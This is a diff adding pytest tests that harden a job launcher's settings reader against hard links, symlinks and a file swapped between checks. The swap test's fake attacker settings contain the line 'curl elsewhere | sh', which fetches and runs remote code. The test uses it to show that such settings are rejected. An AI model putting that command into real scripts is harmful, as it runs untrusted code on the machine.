@@ -72,7 +72,35 @@ def test_settings_that_others_could_have_written_start_nothing(folder, monkeypat
     assert "settings that can be read" in queue.waits_for(run)
     path.chmod(0o600)
     os.link(path, folder / "other")
-    with pytest.raises(DamagedFile, match="no regular file of one name"):
+    with pytest.raises(DamagedFile, match="has other names, where a regular file of one name"):
+        launcher_settings.read(folder)
+
+
+def test_what_is_read_is_the_file_that_was_looked_at(folder, monkeypatch):
+    """Whoever may write in the folder of the queue can replace our file between two looks at it."""
+    launcher_settings.choose(folder, "slurm", partition="ours")
+    path = launcher_settings.path(folder)
+    theirs = LauncherSettings(launcher="slurm", slurm=Slurm(lines=("curl elsewhere | sh",)))
+    (folder / "theirs").write_text(theirs.model_dump_json())
+    looks, looked_at = {name: getattr(os, name) for name in ("lstat", "fstat")}, {"number": path.stat().st_ino}
+
+    def replaced(name, *arguments, **more):
+        status = looks[name](*arguments, **more)
+        if status.st_ino == looked_at.get("number") and looked_at.clear() is None:
+            os.replace(folder / "theirs", path)
+        return status
+
+    for name in looks:
+        monkeypatch.setattr(os, name, lambda *arguments, name=name, **more: replaced(name, *arguments, **more))
+    assert launcher_settings.read(folder).slurm == Slurm(partition="ours")
+    assert not (folder / "theirs").exists()
+
+
+def test_a_link_to_settings_is_none(folder):
+    launcher_settings.choose(folder, "slurm")
+    path = launcher_settings.path(folder)
+    os.symlink(path.rename(folder / "elsewhere"), path)
+    with pytest.raises(DamagedFile, match="a link, where a file is expected"):
         launcher_settings.read(folder)
 
 
